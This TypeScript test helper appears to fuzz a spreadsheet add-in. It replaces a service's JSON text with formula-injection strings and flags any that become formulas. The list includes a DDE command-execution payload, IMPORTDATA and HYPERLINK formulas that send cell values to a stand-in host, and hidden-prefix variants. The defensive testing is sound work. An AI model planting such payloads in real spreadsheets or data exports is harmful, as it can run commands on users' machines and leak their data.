/** Texts that a spreadsheet could take for something else, and a service whose answers consist of them. */
/** A prime number of them, so that from record to record each field has another one. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...['=PROP.SEARCH("10001",,,,"address",500)', "=PROP_VALUE(A1)", "=PROP.VALUE(A2)", "=1+1", "==", "="],
  ...['=HYPERLINK("https://example.com/"&A1,"open")', '=IMPORTDATA("https://example.com/"&A2)', "=cmd|' /C calc'!A0"],
  ...[
    "+1+1",
    "+1 555 0100",
    "+PROP.VALUE(A2)",
    "-1+1",
    "-PROP_VALUE(A2)",
    "-x",
    "@SUM(A1)",
    "@PROP.VALUE(A2)",
    "@home",
  ],
  ...["\t=1+1", "\r=1+1", "\n=1+1", "\u200B=1+1", "\uFEFF=1+1", "\u00A0=1+1", "＝1+1", "'=1+1", "'quoted", "''"],
  ...["3-5", "1/2", "May 5", "5 May", "2026-03-01", "12:30", "00012", "1e5", "$5", "5%", "(5)", "1,234", ".5", " 7"],
  ...["TRUE", "false", " true", "#N/A", "#REF!", "#SPILL!", "Loading...", "yes", "x\u0000y\uD800", "Elm St"],
  ...['" & PROP.VALUE(A2) & "', '",1)&HYPERLINK("https://example.com', "{=1+1}", "~1", `=${"x".repeat(40_000)}`],
  ...["1".repeat(40_000)],
];

const LONG = 1000;

const placeOf = (id: string): number => [...id].reduce((sum, letter) => (31 * sum + letter.charCodeAt(0)) % 9973, 0);

const isMap = (value: unknown): value is Readonly<Record<string, unknown>> =>
  typeof value === "object" && value !== null && !Array.isArray(value);

/** Every text of an answer, and every other key that is no name of a field, becomes the next of the texts. */
export function hostileAnswers(from = 0) {
  let next = from;
  let longOnes = 6;
  const given = (): string => {
    const text = HOSTILE_TEXTS[(next += 1) % HOSTILE_TEXTS.length]!;
    // More of them would be too much for Excel at once.
    return text.length < LONG || (longOnes -= 1) >= 0 ? text : given();
  };
  const hostile = (value: unknown): unknown => {
    if (typeof value === "string") return given();
    if (Array.isArray(value)) return value.map(hostile);
    if (!isMap(value)) return value;
    // The same home has the same texts in another answer.
    if (typeof value["id"] === "string") next = from + placeOf(value["id"]);
    const entries = Object.entries(value).map(([key, each]) => [
      /^\d/.test(key) && next % 2 === 0 ? given() : key,
      hostile(each),
    ]);
    return Object.fromEntries([...entries, [given(), given()]]) as unknown;
  };
  return (body: string): string => {
    try {
      return JSON.stringify(hostile(JSON.parse(body)));
    } catch {
      return body;
    }
  };
}

/** What a text would be as a formula, however it became one. */
const bare = (text: string): string =>
  text
    .replace(/^[\s='+@\u200B\uFEFF＝-]+/, "")
    .replace(/PROP_/g, "PROP.")
    .slice(0, 20);

const FORMULAS = new Set(HOSTILE_TEXTS.map(bare).filter((text) => text !== ""));

/** Whether a formula was once a text of the service, or a person's. */
export const isHostileFormula = (formula: string): boolean => FORMULAS.has(bare(formula));
